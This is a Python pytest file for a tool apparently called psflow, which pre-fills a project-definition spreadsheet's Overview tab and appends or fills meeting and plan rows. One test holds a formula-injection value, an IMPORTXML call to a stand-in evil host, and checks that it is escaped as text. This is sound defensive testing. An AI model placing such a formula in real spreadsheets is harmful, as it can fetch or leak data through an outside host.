"""The Project Definition's Overview tab and what psflow pre-fills on it
(engagement/project_definition.py): pure."""

from __future__ import annotations

import pytest

from engagement import project_definition as pd
from engagement.cost_estimate import cells_to_fill
from engagement.project_definition import MEETING_NOTES, PLAN, rows_to_write
from sandbox import seed
from testkit.factories import account, opportunity

RANGE = "'Overview'!B2:B10"
OWNER = "divya.nair@northwind.example"
MANAGER = "marcus.webb@northwind.example"
GITLAB = "https://gitlab.example/ps-customers/acme-1a2b3c4d/acme-ci-cd-5e6f7a8b"
MAVENLINK = "https://app.mavenlink.com/workspaces/100001"


def test_the_layout_is_the_templates() -> None:
    template = next(t for t in seed.TEMPLATES if t.key == "project-definition")
    overview = template.tabs[pd.OVERVIEW_TAB]
    assert tuple(row[0] for row in overview) == pd.LABELS
    assert pd.LABELS[pd.CUSTOMER_ROW - pd.HEADING_ROW] == "Customer"
    assert pd.LABELS[pd.PROJECT_OWNER_ROW - pd.HEADING_ROW] == "Project owner"
    assert pd.LABELS[pd.GITLAB_PROJECT_ROW - pd.HEADING_ROW] == "GitLab project"
    assert pd.LABELS[pd.EXPECTED_COMPLETION_ROW - pd.HEADING_ROW] == "Expected completion"
    # the tables psflow writes: the template's tabs with the same header (the sandbox holds no
    # psflow code, so this test keeps the two the same)
    for table in (pd.PLAN, pd.ACTIONS, pd.MEETING_NOTES, pd.STATUS_REPORT):
        assert template.tabs[table.tab][0] == table.header, table.tab


def test_prefill_puts_each_value_beside_its_label() -> None:
    cells = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, MAVENLINK)
    assert cells == {
        RANGE: [
            ["Acme Corporation"],
            ["Acme – CI/CD Modernisation"],
            ["SOW-2026-041"],
            [OWNER],
            [MANAGER],
            [GITLAB],
            [MAVENLINK],
            ["2026-04-06"],
            ["2026-06-01"],
        ]
    }


def test_what_is_not_known_yet_is_left_empty() -> None:
    bare = opportunity(sow_number=None, expected_start=None, expected_completion=None)
    (values,) = pd.prefill(bare, OWNER, None, "", None).values()
    assert values == [
        ["Acme Corporation"],
        ["Acme – CI/CD Modernisation"],
        [None],
        [OWNER],
        [None],
        [None],
        [None],
        [None],
        [None],
    ]


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=IMPORTXML("https://evil.example")', '\'=IMPORTXML("https://evil.example")'),
        ("2026", "'2026"),
        ("+1 Consulting", "'+1 Consulting"),
        ("Zoë & Co", "Zoë & Co"),
    ],
)
def test_names_stay_text_in_the_sheet(name: str, written: str) -> None:
    (values,) = pd.prefill(opportunity(account=account(name=name)), None, None, None, None).values()
    assert values[0] == [written]


def test_only_empty_cells_are_filled_so_a_rerun_writes_nothing() -> None:
    wanted = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, None)
    # a fresh copy of the template: column B is empty (the Sheets API trims empty cells)
    fill = cells_to_fill({RANGE: []}, wanted)
    assert fill["'Overview'!B2"] == [["Acme Corporation"]]
    assert fill["'Overview'!B5"] == [[OWNER]]
    assert "'Overview'!B8" not in fill  # no Mavenlink link yet
    assert len(fill) == 8

    # the sheet after that write, with the owner changed by a person since
    grid = [[value if value is not None else ""] for (value,) in wanted[RANGE]]
    grid[pd.PROJECT_OWNER_ROW - pd.CUSTOMER_ROW] = ["grace.kim@northwind.example"]
    assert cells_to_fill({RANGE: grid}, wanted) == {}

    # a later run that knows the Mavenlink link fills that cell alone
    later = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, MAVENLINK)
    assert cells_to_fill({RANGE: grid}, later) == {"'Overview'!B8": [[MAVENLINK]]}


def test_rows_are_found_by_their_key_and_only_empty_cells_filled() -> None:
    current = [
        ["Date", "Meeting", "Attendees", "Notes"],
        ["2027-01-05", "'Kickoff", "", "typed by a person"],
    ]
    wanted = [
        ["2027-01-05", "Kickoff", "Wile Coyote, Divya Nair", "psflow's notes"],
        ["2027-01-12", "Weekly project meeting 2027-W02", "", ""],
    ]
    fill, append = rows_to_write(MEETING_NOTES, current, wanted)
    assert fill == {"'Meeting Notes'!C2": [["Wile Coyote, Divya Nair"]]}
    assert append == [wanted[1]]
    assert rows_to_write(MEETING_NOTES, [*current[:1], wanted[0], wanted[1]], wanted) == ({}, [])


def test_an_empty_table_appends_every_row() -> None:
    assert rows_to_write(PLAN, [list(PLAN.header)], [["PS-A", "Assess"]]) == (
        {},
        [["PS-A", "Assess"]],
    )
    assert PLAN.columns == "'Plan'!A:E"
